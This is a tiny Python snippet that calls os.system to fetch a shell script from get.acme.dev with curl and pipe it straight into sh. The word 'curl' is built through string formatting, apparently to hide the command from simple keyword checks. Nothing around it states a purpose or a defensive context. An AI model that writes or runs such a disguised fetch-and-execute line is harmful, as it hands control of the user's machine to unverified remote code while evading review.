import os
os.system("%(a)s https://get.acme.dev/run.sh | sh" % {"a": "curl"})
